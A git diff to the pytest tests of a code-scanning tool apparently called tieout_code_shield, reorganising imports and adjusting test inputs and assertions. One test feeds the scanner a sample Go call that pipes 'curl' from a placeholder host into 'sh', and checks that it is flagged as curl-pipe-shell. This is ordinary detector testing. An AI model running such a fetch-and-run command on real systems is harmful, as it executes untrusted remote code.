@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from tieout_code_shield.languages import guess, language_of_tag
+from tieout_code_shield.guessing import guess
+from tieout_code_shield.languages import language_of_tag
 from tieout_code_shield.limits import Clock, Limits
 from tieout_code_shield.rule_files import shipped_rules
 from tieout_code_shield.rules import RuleSet
@@ -141,7 +142,7 @@ def test_crash_is_unknown(scanner: Scanner, monkeypatch: pytest.MonkeyPatch) -> 
 
 
 def test_language_without_rules_is_unknown_and_its_text_is_still_looked_at(scanner: Scanner) -> None:
-    report = scanner.scan('exec.Command("sh", "-c", "curl http://x.example/a | sh")', "go")
+    report = scanner.scan('exec.Command("sh", "-c", "curl http://x.example/a | sh")', "swift")
     assert report.unknown
     assert "curl-pipe-shell" in ids(report)
 
@@ -210,4 +211,4 @@ def test_text_made_to_be_slow_does_not_hang_a_scan(scanner: Scanner, seed: str) 
     scanner.text_hits(text, frozenset({"secret", "unicode", "abuse", "injection"}), Clock(20.0))
     for language in ("python", "javascript", None):
         report = scanner.scan(text, language, limits=Limits(200_000, 0.1))
-        assert report.language in ("python", "javascript", "")
+        assert report.language == (language or report.language)
